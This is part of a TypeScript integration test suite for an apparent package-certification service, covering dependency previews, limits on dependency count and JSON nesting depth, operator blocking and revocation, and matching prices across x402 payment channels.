    dependencyFiles: { 'package.json': JSON.stringify({ dependencies: { 'is-number': '7.0.0', debug: '4.3.4', 'is-odd': '3.0.1', nope: 'github:a/b' } }) },
  });
  assert.is(draft.status, 201, JSON.stringify(draft.body));
  const p = await dev.post(`/api/v1/cert/dev/drafts/${draft.body.draftId}/package-preview`);
  assert.is(p.status, 200, JSON.stringify(p.body));
  assert.is(p.body.enabled, true);
  assert.is(p.body.packagesTotal, 4);
  assert.is(p.body.packagesCertifiedFromCache, 2);
  assert.is(p.body.packagesToAudit, 1);
  assert.is(p.body.packagesRejected, 1);
  assert.is(p.body.packagesUncertified, 0);
  assert.ok(p.body.transitiveDependenciesChecked >= 1);
  assert.ok(p.body.savingsUsd > 0);
  assert.ok(p.body.uncachedCostUsd > 0);
  const odd = p.body.items.find((i: any) => i.packageName === 'is-odd');
  assert.is(odd.status, 'TO_AUDIT');
  assert.is(odd.cached, false);
  assert.is(odd.dependencyType, 'DIRECT');
  assert.ok(['SMALL', 'MEDIUM', 'LARGE'].includes(odd.estimatedComplexityTier), odd.estimatedComplexityTier);
  assert.ok(odd.estimatedPriceUsd > 0);
  // A refused declaration is audited and priced not at all: its tier says so in a string (spec 2.5), never null.
  const nope = p.body.items.find((i: any) => i.packageName === 'nope');
  assert.equal([nope.status, nope.estimatedComplexityTier, nope.estimatedPriceUsd], ['REJECTED', 'NOT_ESTIMATED', 0]);
  for (const i of p.body.items) assert.type(i.estimatedComplexityTier, 'string', JSON.stringify(i));
  const dbg = p.body.items.find((i: any) => i.packageName === 'debug');
  assert.is(dbg.cached, true);
  assert.is(dbg.status, 'CERTIFIED');
  assert.is(dbg.estimatedPriceUsd, 0);
  const other = client(web.url, JSON.parse((await cli(['dev-token', 'create', '--developer', `dev-${uuid().slice(0, 8)}`, '--json'])).stdout).token);
  assert.is((await other.post(`/api/v1/cert/dev/drafts/${draft.body.draftId}/package-preview`)).status, 404);
});

t('bounded work: more declared dependencies than the cap is a 422 naming the cap (submission, draft, preview); a 5,000-deep package.json is a clean 4xx', async () => {
  const many = { 'package.json': JSON.stringify({ dependencies: Object.fromEntries(Array.from({ length: 201 }, (_, i) => [`dep-${i}`, '1.0.0'])) }) };
  const sub = await api.post('/cert/v1/submissions/submit', { categoryKey: 'CODE+PACKAGES', skillMdContent: skillMd(), dependencyFiles: many, idempotencyKey: uuid() });
  assert.is(sub.status, 422, JSON.stringify(sub.body));
  assert.is(sub.body.error.code, 'too_many_dependencies');
  assert.is(sub.body.error.field, 'dependencyFiles');
  assert.match(sub.body.error.message, /201 dependencies; at most 200/);
  const tok = JSON.parse((await runCli(['dev-token', 'create', '--developer', `dev-${uuid().slice(0, 8)}`, '--json'], env)).stdout).token;
  const dev = client(web.url, tok);
  const draft = await dev.post('/api/v1/cert/dev/drafts', { productType: 'CODE+PACKAGES', dependencyFiles: many });
  assert.is(draft.status, 422, JSON.stringify(draft.body));
  assert.is(draft.body.error.code, 'too_many_dependencies');
  // At the cap, the preview answers (its registry lookups run in parallel under a limit).
  const atCap = await dev.post('/api/v1/cert/dev/drafts', { productType: 'CODE+PACKAGES', dependencyFiles: { 'requirements.txt': Array.from({ length: 200 }, (_, i) => `leaf${i % 12}==1.0.${i}\n`).join('') } });
  assert.is(atCap.status, 201, JSON.stringify(atCap.body));
  const p = await dev.post(`/api/v1/cert/dev/drafts/${atCap.body.draftId}/package-preview`);
  assert.is(p.status, 200, JSON.stringify(p.body).slice(0, 500));
  assert.is(p.body.packagesTotal, 200);

  const deep = '{"name":"x","dependencies":{"is-number":"7.0.0"},"config":' + '{"a":'.repeat(5000) + '1' + '}'.repeat(5000) + '}';
  const deepArr = '{"name":"x","dependencies":' + '['.repeat(5000) + ']'.repeat(5000) + '}';
  for (const text of [deep, deepArr]) {
    for (const r of [
      await api.post('/cert/v1/submissions/submit', { categoryKey: 'CODE+PACKAGES', skillMdContent: skillMd(), dependencyFiles: { 'package.json': text }, idempotencyKey: uuid() }),
      await dev.post('/api/v1/cert/dev/drafts', { productType: 'CODE+PACKAGES', dependencyFiles: { 'package.json': text } }),
    ]) {
      assert.ok(r.status < 500, `${r.status} ${JSON.stringify(r.body).slice(0, 300)}`);
      assert.not.match(JSON.stringify(r.body), /call stack|RangeError/);
    }
  }
});

t('package preview answers exact pins as a submission would: normalised versions, unknown versions rejected, blocked ones save nothing', async () => {
  const tok = JSON.parse((await runCli(['dev-token', 'create', '--developer', `dev-${uuid().slice(0, 8)}`, '--json'], env)).stdout).token;
  const dev = client(web.url, tok);
  const draft = await dev.post('/api/v1/cert/dev/drafts', {
    productType: 'CODE+PACKAGES',
    dependencyFiles: { 'requirements.txt': 'tinylib==1.0\nbadlib==1.0.0\n', 'package.json': JSON.stringify({ dependencies: { 'is-number': '99.0.0' } }) },
  });
  assert.is(draft.status, 201, JSON.stringify(draft.body));
  const p = await dev.post(`/api/v1/cert/dev/drafts/${draft.body.draftId}/package-preview`);
  assert.is(p.status, 200, JSON.stringify(p.body));
  const item = (name: string) => p.body.items.find((i: any) => i.packageName === name);
  // PyPI ==1.0 is the certified 1.0.0 (PEP 440 equality), as the submission resolves it.
  assert.is(item('tinylib').status, 'CERTIFIED', JSON.stringify(item('tinylib')));
  assert.is(item('tinylib').packageVersion, '1.0.0');
  assert.is(item('tinylib').cached, true);
  assert.is(item('badlib').status, 'BLOCKED');
  assert.is(item('is-number').status, 'REJECTED', JSON.stringify(item('is-number')));
  assert.match(item('is-number').warnings[0], /99\.0\.0/);
  assert.is(item('is-number').estimatedComplexityTier, 'NOT_ESTIMATED');
  assert.is(p.body.packagesToAudit, 0);
  assert.is(p.body.packagesRejected, 2);
  const prices: Record<string, number> = { SMALL: 0.5, MEDIUM: 1.5, LARGE: 4 };
  assert.is(p.body.savingsUsd, prices[item('tinylib').estimatedComplexityTier], 'only the usable certified package saves its price');
  assert.is(p.body.uncachedCostUsd, 0);
});

t('`package audit npm express 5.1.0` audits the real package now and prints its certificate; public GET serves it', async () => {
  const r = await runCli(['package', 'audit', 'npm', 'express', '5.1.0', '--json'], env);
  assert.is(r.status, 0, r.stderr);
  const cert = JSON.parse(r.stdout);
  assert.is(cert.packageName, 'express');
  assert.is(cert.packageVersion, '5.1.0');
  assert.match(cert.distributionSha256, /^[0-9a-f]{64}$/);
  assert.ok(['CLEAR', 'MONITORED'].includes(cert.securityLevel), `a popular benign package: ${cert.securityLevel} ${JSON.stringify(cert.retainedWarnings)}`);
  assert.is(cert.analysisType, 'FULL');
  const pub = await anon.get('/api/v1/public/packages/npm/express/5.1.0');
  assert.is(pub.status, 200);
  assert.is(pub.body.certificateId, cert.certificateId);
  assert.is(pub.body.distributionSha256, cert.distributionSha256);
  // Again: the registry lookup answers with the same certificate, nothing is audited twice.
  const again = JSON.parse((await runCli(['package', 'audit', 'npm', 'express', '5.1.0', '--json'], env)).stdout);
  assert.is(again.certificateId, cert.certificateId);
  const bad = await runCli(['package', 'audit', 'npm', 'express'], env);
  assert.is.not(bad.status, 0, 'a version is required');
});

t('`package warm npm --top 3` certifies the three most-used npm packages with a progress bar', async () => {
  const r = await runCli(['package', 'warm', 'npm', '--top', '3', '--json'], env);
  assert.is(r.status, 0, r.stderr);
  assert.match(r.stderr, /\[#{30}\] 3\/3/, 'the progress bar ends full');
  assert.match(r.stderr, /\[\.{30}\] 0\/3/, 'and starts empty');
  const result = JSON.parse(r.stdout);
  assert.equal(result, { warmed: 3, failed: [] });
  const top3 = topPackages().npm.slice(0, 3);
  for (const name of top3) {
    assert.ok((await PackageCertificate.count({ where: { registry: 'npm', name, status: 'ACTIVE' } })) >= 1, `${name} is certified`);
  }
});

t('operators override, block and revoke package certificates with an audit trail', async () => {
  const cli = (args: string[]) => runCli([...args, '--operator', 'test-op'], env);
  const o = await cli(['package', 'override', 'pypi', 'tinylib', '1.0.0', '--level', 'CAUTION', '--reason', 'maintainer change under review']);
  assert.is(o.status, 0, o.stderr);
  assert.is((await anon.get('/api/v1/public/packages/pypi/tinylib/1.0.0')).body.securityLevel, 'CAUTION');
  const b = await cli(['package', 'block', 'pypi', 'tinylib', '1.0.0', '--reason', 'confirmed malicious']);
  assert.is(b.status, 0, b.stderr);
  const blocked = await anon.get('/api/v1/public/packages/pypi/tinylib/1.0.0/verify');
  assert.is(blocked.body.securityLevel, 'BLOCKED');
  assert.is(blocked.body.valid, false);
  const blockedSub = await submit({ 'requirements.txt': 'tinylib==1.0.0\n' });
  assert.is(blockedSub.status, 'SANDBOX_FAILED');
  const r = await cli(['package', 'revoke', 'pypi', 'tinylib', '1.0.0', '--reason', 're-check', '--reaudit', '--json']);
  assert.is(r.status, 0, r.stderr);
  const fresh = JSON.parse(r.stdout);
  assert.is.not(fresh.certificateId, fresh.revoked);
  assert.is((await anon.get('/api/v1/public/packages/pypi/tinylib/1.0.0')).body.certificateId, fresh.certificateId);
  const trail = JSON.parse((await cli(['package', 'trail', 'pypi', 'tinylib', '1.0.0', '--json'])).stdout);
  assert.equal(trail.map((x: any) => x.action), ['package.override', 'package.block', 'package.revoke', 'package.reaudit']);
  assert.is(trail[3].details.certificate, fresh.certificateId);
  assert.is(trail[2].details.reason, 're-check');
  // The revoked record keeps the operator's block reason (the revoke reason is in the trail).
  const revoked = (await PackageCertificate.findByPk(fresh.revoked))!;
  assert.is(revoked.status, 'REVOKED');
  assert.is(revoked.overrideReason, 'confirmed malicious');
  assert.ok(trail.every((x: any) => x.operator === 'test-op'));
});

t('developer x402 channel, CODE+PACKAGES: the draft preview, the 402 and the payment agree on every number; refused requests are never charged; the packages are audited', async () => {
  const newToken = async () => JSON.parse((await runCli(['dev-token', 'create', '--developer', `dev-${uuid().slice(0, 8)}`, '--json'], env)).stdout).token as string;
  const tok = await newToken();
  const dev = client(web.url, tok);
  const files = { 'package.json': JSON.stringify({ dependencies: { 'is-number': '7.0.0', 'is-odd': '3.0.1' } }), 'requirements.txt': 'devlib==1.0.0\n' };
  const draft = await dev.post('/api/v1/cert/dev/drafts', { productType: 'CODE+PACKAGES', skillMdContent: skillMd({ name: 'pkg-skill' }), dependencyFiles: files });
  assert.is(draft.status, 201, JSON.stringify(draft.body));
  const preview = (await dev.post(`/api/v1/cert/dev/drafts/${draft.body.draftId}/package-preview`)).body;
  assert.is(preview.packagesToAudit, 2, JSON.stringify(preview.items));
  const listPrice = Number((await Category.findByPk('CODE+PACKAGES'))!.priceUsd);
  assert.equal(preview.price, { categoryKey: 'CODE+PACKAGES', listPriceUsd: listPrice, voucher: null, productPriceUsd: listPrice, packagesToAudit: 2, packagesUsd: preview.uncachedCostUsd, totalUsd: Math.round((listPrice + preview.uncachedCostUsd) * 100) / 100, amountUsdc: (listPrice + preview.uncachedCostUsd).toFixed(2) });
  assert.ok(preview.uncachedCostUsd > 0);

  const headers = { authorization: `Bearer ${tok}`, 'x-payment-method': 'x402' };
  const call = (body: unknown, extra: Record<string, string> = {}) => callApi(web.url, 'POST', '/api/v1/cert/submit', { body, headers: { ...headers, ...extra } });
  const before = await tokenBalance(chain.cfg.rpcUrl, usdc, payer.address);
  // Refused before any 402: nobody is asked to pay for a request that would fail.
  const other = await newToken();
  const refusals: [unknown, number, string, string?][] = [
    [{ url: 'https://example.com/s', draftId: uuid() }, 404, 'not_found', 'draftId'],
    [{ url: 'https://example.com/s', draftId: draft.body.draftId, dependencyFiles: files }, 400, 'conflicting_fields', 'dependencyFiles'],
    [{ url: 'https://example.com/s', draftId: draft.body.draftId, productType: 'SKILL' }, 422, 'draft_mismatch', 'productType'],
    [{ url: 'https://example.com/s', productType: 'CODE+PACKAGES', skillMdContent: skillMd(), dependencyFiles: { 'package.json': '{"dependencies": ' } }, 422, 'invalid_dependency_file', 'dependencyFiles.package.json'],
    [{ url: 'https://example.com/s', productType: 'CODE+PACKAGES', skillMdContent: skillMd(), dependencyFiles: { 'requirements.txt': Array.from({ length: 201 }, (_, i) => `leaf${i % 12}==1.0.${i}`).join('\n') } }, 422, 'too_many_dependencies', 'dependencyFiles'],
    [{ url: 'https://example.com/s', productType: 'CODE+PACKAGES', skillMdContent: skillMd(), dependencyFiles: { 'package.json': JSON.stringify({ dependencies: { x: 'git+https://example.com/x.git' } }) } }, 422, 'dependency_refused', 'dependencyFiles'],
    [{ url: 'https://example.com/s', productType: 'CODE+PACKAGES', skillMdContent: skillMd(), dependencyFiles: { 'setup.py': 'x' } }, 422, 'unsupported_dependency_file', 'dependencyFiles.setup.py'],
    [{ url: 'https://example.com/s', productType: 'CODE+PACKAGES', skillMdContent: skillMd(), dependencyFiles: { 'requirements.txt': 'a==1\n' + '#'.repeat(2_100_000) } }, 413, 'payload_too_large'],
    [{ url: 'https://example.com/s', productType: 'SKILL', skillMdContent: skillMd(), dependencyFiles: files }, 422, 'dependency_files_not_allowed', 'dependencyFiles'],
  ];
  for (const [body, status, code, field] of refusals) {
    const r = await call(body);
    assert.is(r.status, status, `${code}: ${JSON.stringify(r.body).slice(0, 300)}`);
    assert.is(r.body.error.code, code);
    if (field) assert.is(r.body.error.field, field);
    assert.is(r.headers.get('payment-required'), null);
  }
  const foreign = await callApi(web.url, 'POST', '/api/v1/cert/submit', { body: { url: 'https://example.com/s', draftId: draft.body.draftId }, headers: { authorization: `Bearer ${other}`, 'x-payment-method': 'x402' } });
  assert.is(foreign.status, 404, 'another developer’s draft is not found');

  const body = { url: 'https://example.com/pkg-skill', draftId: draft.body.draftId };
  const key = uuid();
  const first = await call(body, { 'idempotency-key': key });
  assert.is(first.status, 402, JSON.stringify(first.body));
  assert.equal(first.body.price, preview.price, 'the 402 states the preview’s numbers');
  assert.is(first.body.accepts[0].amount, String(Math.round(preview.price.totalUsd * 1e6)));
  assert.match(first.body.resource.description, /2 package audits/);
  const paid = await call(body, { 'idempotency-key': key, 'x-payment-receipt': await paymentHeaderFor(first.headers.get('payment-required')!, payer) });
  assert.is(paid.status, 201, JSON.stringify(paid.body));
  assert.is(await tokenBalance(chain.cfg.rpcUrl, usdc, payer.address), before - BigInt(first.body.accepts[0].amount), 'charged once, exactly the previewed total');
  assert.is((await dev.get(`/api/v1/cert/dev/drafts/${draft.body.draftId}`)).body.submissionId, paid.body.submissionId);

  const detail = await waitFor(async () => {
    const r = await dev.get(`/api/v1/cert/dev/submissions/${paid.body.submissionId}`);
    return FINAL.includes(r.body?.status) ? r.body : undefined;
  }, 120000, 'the developer submission to finish');
  assert.is(detail.status, 'APPROVED', JSON.stringify(detail.findings ?? detail).slice(0, 500));
  // The owner view says where each package stands (the portal shows it while they are audited).
  assert.is(detail.packages.phase, 'DONE');
  assert.equal(
    detail.packages.direct.map((p: any) => [p.packageName, p.packageVersion, p.status, p.cached]).sort(),
    [['devlib', '1.0.0', 'CERTIFIED', false], ['is-number', '7.0.0', 'CERTIFIED', true], ['is-odd', '3.0.1', 'CERTIFIED', false]],
  );
  const sub = await Submission.findByPk(paid.body.submissionId);
  assert.is(sub!.channel, 'dev');
  assert.equal(Object.keys(sub!.dependencyFiles ?? {}).sort(), ['package.json', 'requirements.txt']);
  const cert = (await anon.get(`/api/v1/public/certificates/${detail.skillId}`)).body.certificate;
  const direct = new Map(cert.packages.direct.map((p: any) => [p.packageName, p]));
  for (const [name, version] of [['is-odd', '3.0.1'], ['devlib', '1.0.0'], ['is-number', '7.0.0']]) {
    const row: any = direct.get(name);
    assert.ok(row, `${name} on the certificate: ${JSON.stringify(cert.packages.direct)}`);
    assert.is(row.auditedVersion, version);
    assert.is(row.status, 'CERTIFIED');
  }
  assert.is(await PackageCertificate.count({ where: { registry: 'pypi', name: 'devlib', version: '1.0.0', status: 'ACTIVE' } }), 1, 'devlib was audited through the developer channel');
});

t('/cert/v1 channel, CODE+PACKAGES: validate, the payment intent, its 402 and the charge state the developer preview’s price for the same files; the intent pays only for those files', async () => {
  const files = { 'requirements.txt': 'v1lib==1.0.0\ntwinlib==1.0.0\n' };
  const skill = skillMd({ name: 'v1-pkg-skill' });
  // The developer channel's preview of the same files is the reference (one price rule for every channel).
  const tok = JSON.parse((await runCli(['dev-token', 'create', '--developer', `dev-${uuid().slice(0, 8)}`, '--json'], env)).stdout).token;
  const dev = client(web.url, tok);
  const draft = await dev.post('/api/v1/cert/dev/drafts', { productType: 'CODE+PACKAGES', dependencyFiles: files });
  const preview = (await dev.post(`/api/v1/cert/dev/drafts/${draft.body.draftId}/package-preview`)).body;
  assert.is(preview.packagesToAudit, 1, JSON.stringify(preview.items));
  assert.is(preview.packagesCertifiedFromCache, 1, 'twinlib is certified already: no charge for it');
  const listPrice = Number((await Category.findByPk('CODE+PACKAGES'))!.priceUsd);
  assert.ok(preview.price.packagesUsd > 0);
  assert.is(preview.price.totalUsd, Math.round((listPrice + preview.uncachedCostUsd) * 100) / 100);

  const key = await newActorKey();
  const v1 = client(web.url, key);
  const validated = await v1.post('/cert/v1/submissions/validate', { categoryKey: 'CODE+PACKAGES', skillMdContent: skill, dependencyFiles: files });
  assert.is(validated.status, 200, JSON.stringify(validated.body).slice(0, 300));
  assert.equal(validated.body.price, preview.price, 'the dry run shows the price the developer preview shows');
  // An intent for CODE+PACKAGES without files cannot price the packages: refused before anything is paid.
  const bare = await v1.post('/cert/v1/payments/intents', { categoryKey: 'CODE+PACKAGES' });
  assert.is(bare.status, 422, JSON.stringify(bare.body));
  assert.equal([bare.body.error.code, bare.body.error.field], ['missing_dependency_manifest', 'dependencyFiles']);
  const intent = await v1.post('/cert/v1/payments/intents', { categoryKey: 'CODE+PACKAGES', dependencyFiles: files });
  assert.is(intent.status, 201, JSON.stringify(intent.body));
  assert.equal(intent.body.price, preview.price);
  assert.is(intent.body.amountUsdc, preview.price.amountUsdc);
  const unpaid = await v1.post(`/cert/v1/payments/${intent.body.intentId}/confirm`);
  assert.is(unpaid.status, 402);
  assert.equal(unpaid.body.price, preview.price, 'the 402 states the same numbers');
  const required = unpaid.headers.get('payment-required')!;
  assert.is(decodeHeader<any>(required).accepts[0].amount, String(Math.round(preview.price.totalUsd * 1e6)));
  const before = await tokenBalance(chain.cfg.rpcUrl, usdc, payer.address);
  const confirmed = await callApi(web.url, 'POST', `/cert/v1/payments/${intent.body.intentId}/confirm`, { headers: { authorization: `Bearer ${key}`, 'payment-signature': await paymentHeaderFor(required, payer) } });
  assert.is(confirmed.status, 200, JSON.stringify(confirmed.body));
  assert.is(confirmed.body.status, 'PAID');
  assert.is(before - (await tokenBalance(chain.cfg.rpcUrl, usdc, payer.address)), BigInt(Math.round(preview.price.totalUsd * 1e6)), 'charged exactly the previewed total');

  // The paid intent buys a submission with the files it priced, and no other.
  const body = { categoryKey: 'CODE+PACKAGES', skillMdContent: skill, paymentIntentId: intent.body.intentId };
  const other = await v1.post('/cert/v1/submissions/submit', { ...body, dependencyFiles: { 'requirements.txt': 'v1lib==1.0.0\n' }, idempotencyKey: uuid() });
  assert.is(other.status, 422, JSON.stringify(other.body));
  assert.equal([other.body.error.code, other.body.error.field], ['payment_intent_mismatch', 'paymentIntentId']);
  assert.is((await v1.get('/cert/v1/submissions')).body.items.length, 0, 'nothing stored for the refused submission');
  const sub = await v1.post('/cert/v1/submissions/submit', { ...body, dependencyFiles: files, idempotencyKey: uuid() });
  assert.is(sub.status, 201, JSON.stringify(sub.body));
  const detail = await waitForStatus(v1, sub.body.submissionId, FINAL, 90000);
  assert.is(detail.status, 'APPROVED', JSON.stringify(detail.findings));
  assert.is((await Submission.findByPk(sub.body.submissionId))!.paymentId, confirmed.body.paymentId);
  assert.is(await PackageCertificate.count({ where: { registry: 'pypi', name: 'v1lib', version: '1.0.0', status: 'ACTIVE' } }), 1, 'the priced package was audited');
});

t.run();
